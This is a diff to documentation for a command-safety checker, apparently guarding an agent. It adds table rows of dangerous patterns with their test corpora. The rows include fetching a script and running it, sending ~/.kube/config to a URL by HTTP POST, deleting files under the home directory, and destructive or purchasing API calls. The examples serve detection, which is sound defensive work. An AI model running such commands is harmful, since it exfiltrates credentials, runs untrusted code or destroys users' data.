@@ -224,6 +224,9 @@
 //! | the home, by a call that gives it back or a variable of the environment | `os.getenv("HOME")`, `process.env.HOME + "/x"`, `System.user_home!() <> "/x"` | `tests/corpus/dangerous-each.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //! | the home by a name in source that the line writes, in a language that is not read call by call | `h <- getHomeDirectory; removePathForcibly (h ++ "/x")` and `runghc X.hs` | `tests/corpus/dangerous-written.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //! | edits of whatever a search finds in the home | `grep -rl a ~/notes \| xargs sed -i s/a/b/`, `find ~/notes -type f -exec sed -i s/a/b/ {} +` | `tests/corpus/dangerous-each.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | what a program fetches into a file and then runs | `urlretrieve(url, "/tmp/x.sh"); run(["sh", "/tmp/x.sh"])`, `copy("http://…", "/tmp/x.phar"); passthru("php /tmp/x.phar")` | `tests/corpus/dangerous-fetched.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a secret that a program in Go, Rust or Java reads and sends | `f, _ := os.Open(home + "/.kube/config"); http.Post(url, "text/plain", f)` and `go run` | `tests/corpus/dangerous-fetched.toml`, `every_dangerous_command_is_held_by_its_rule` |
+//! | a verb or a purchase among the arguments or in the name of a library's call | `o.request("DELETE /repos/{owner}/{repo}")`, `purchase_reserved_instances_offering(…)` | `tests/corpus/dangerous-fetched.toml`, `every_dangerous_command_is_held_by_its_rule` |
 //!
 //! # Open
 //!
